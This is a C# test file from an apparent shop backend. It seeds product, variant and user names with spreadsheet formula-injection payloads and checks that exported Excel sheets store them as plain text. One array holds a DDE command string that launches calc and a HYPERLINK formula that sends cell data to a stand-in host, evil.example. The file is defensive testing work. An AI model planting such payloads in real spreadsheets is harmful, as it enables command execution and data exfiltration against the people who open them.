using System.Globalization;
using System.IO.Compression;
using System.Xml.Linq;
using GulluShoes.Documents.Excel;
using GulluShoes.Functions.Hosting.OpenApi;
using GulluShoes.StoreTests.Doors;

namespace GulluShoes.StoreTests.Attacks;

/// <summary>Formula injection: a name that begins like a formula must be a name in the sheet that somebody opens.</summary>
[Collection(ShopCollection.Name)]
public sealed class FormulaTests(AttackedShop attacked) : IClassFixture<AttackedShop>
{
    private static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    private static readonly string[] Formulas =
        ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example?\"&A1)", "＝1+1", "=1\u0000\u0001", "]]><f>1</f>", "<f>1</f>"];

    [Fact]
    public void Every_sheet_is_written_by_the_one_writer_that_writes_text_as_text() => Assert.Equal(
        // WriteTariffAnswer writes numbers only, into the file as Trendyol made it.
        ["ExportChanges", "ExportCostSheet", "ExportCustomer", "ExportPayouts", "ExportProducts", "ExportProfits", "ExportTariffGaps", "WriteTariffAnswer"],
        AttackDoor.All.Where(door => door.Code.GetCustomAttributes(typeof(AnswersBytesAttribute), false).Cast<AnswersBytesAttribute>().Any(answer => answer.ContentTypes.Any(type => type == SheetWriter.ContentType || type.Contains("csv", StringComparison.Ordinal))))
            .Select(door => door.Name).Order(StringComparer.Ordinal));

    [Theory]
    [InlineData("api/products/sheet")]
    [InlineData("api/changes/sheet?from=2020-01-01")]
    [InlineData("api/costs/sheet?which=all")]
    public async Task Names_that_begin_like_formulas_are_text_in_every_sheet(string path)
    {
        for (var number = 0; number < Formulas.Length; number++)
        {
            await using var command = attacked.Shop.Database.CreateCommand($"update listings set title = $1 where barcode = (select barcode from listings order by barcode offset {number} limit 1)");
            command.Parameters.AddWithValue(Formulas[number].Replace("\0", "", StringComparison.Ordinal));
            await command.ExecuteNonQueryAsync();
            await using var model = attacked.Shop.Database.CreateCommand($"update variants set model = $1 where barcode = (select barcode from variants where model is not null order by barcode offset {number} limit 1)");
            model.Parameters.AddWithValue(Formulas[number].Replace("\0", "", StringComparison.Ordinal));
            await model.ExecuteNonQueryAsync();
            await using var named = attacked.Shop.Database.CreateCommand("update people set name = $1 where user_name = 'worker'");
            named.Parameters.AddWithValue(Formulas[number].Replace("\0", "", StringComparison.Ordinal));
            await named.ExecuteNonQueryAsync();
        }

        using var answer = await attacked.SendAsync(new Attack(path, HttpMethod.Get, path, null!));
        Assert.True(answer.IsSuccessStatusCode, await answer.Content.ReadAsStringAsync());
        using var zip = new ZipArchive(await answer.Content.ReadAsStreamAsync());
        await using var part = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        var sheet = XDocument.Load(part, LoadOptions.PreserveWhitespace);

        Assert.Empty(sheet.Descendants(Main + "f"));
        var texts = sheet.Descendants(Main + "c").Where(cell => (string?)cell.Attribute("t") is not null).ToList();
        Assert.All(texts, cell => Assert.Equal("inlineStr", (string?)cell.Attribute("t")));
        Assert.All(sheet.Descendants(Main + "v"), value => Assert.True(decimal.TryParse(value.Value, CultureInfo.InvariantCulture, out _)));
        Assert.Contains(texts, cell => cell.Value.Contains("=cmd|' /C calc'!A0", StringComparison.Ordinal));
        Assert.Contains(texts, cell => cell.Value.Contains("@SUM(A1)", StringComparison.Ordinal));
    }
}
